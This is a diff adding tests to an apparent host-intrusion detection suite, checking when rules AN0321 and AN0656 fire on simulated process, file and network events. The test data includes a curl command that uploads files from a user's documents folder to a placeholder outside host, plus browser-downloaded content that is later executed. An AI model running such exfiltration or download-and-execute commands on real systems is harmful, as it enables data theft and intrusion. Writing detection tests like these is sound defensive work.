@@ -1,7 +1,7 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import type { Alert } from '../../events/alert.ts';
-import type { Process } from '../an0656-phishing-attachment-executed/audit-records.test-support.ts';
+import { type Process, UNSET } from '../an0656-phishing-attachment-executed/audit-records.test-support.ts';
 import { HostLog, MINUTE } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
 import { firesAt, scanLog } from '../an0656-phishing-attachment-executed/stories.test-support.ts';
 
@@ -173,5 +173,30 @@ test('a short program that gets a text by itself and runs it is a pasted command
 test('a short program that gets a text and shows it runs nothing', async () => {
   const { log, shell } = browsed();
   shell.run(['/usr/bin/python3', '-c', GET.replace('exec', 'print')]).connect(OUT, 80);
+  assert.deepEqual(await alertsOf(log), []);
+});
+
+test('what a text browser saves at a terminal came from outside, and its own notes did not', async () => {
+  const log = new HostLog();
+  const shell = log.shell('dev');
+  const browser = shell.run('/usr/bin/w3m http://example.com/').connect('203.0.113.80', 80);
+  browser.write('/home/dev/.w3m/w3msrc1-0.html').read('/home/dev/.w3m/w3msrc1-0.html').write('/home/dev/model.R');
+  calls(shell.run('/usr/bin/Rscript --vanilla model.R').read('/home/dev/model.R'));
+  const alerts = await alertsOf(log);
+  firesAt(alerts, 'AN0321', 'high');
+  assert.deepEqual(
+    alerts.flatMap(alert => alert.steps.map(step => step.kind)),
+    ['file.created', 'content.executed', 'file.opened', 'network.connected'],
+  );
+});
+
+test('jobs that a daemon starts one after the other feed each other nothing', async () => {
+  const log = new HostLog();
+  const daemon = log.service('/usr/sbin/incrond');
+  const who = { uid: 1002, auid: UNSET, ses: UNSET, tty: '(none)' };
+  for (const name of ['a', 'b', 'c']) {
+    const line = `/usr/bin/curl -s --data-binary @/home/dev/docs/${name} http://${OUT}/i`;
+    calls(daemon.fork(who).run(['/bin/bash', '-c', line]).exec(line));
+  }
   assert.deepEqual(await alertsOf(log), []);
 });
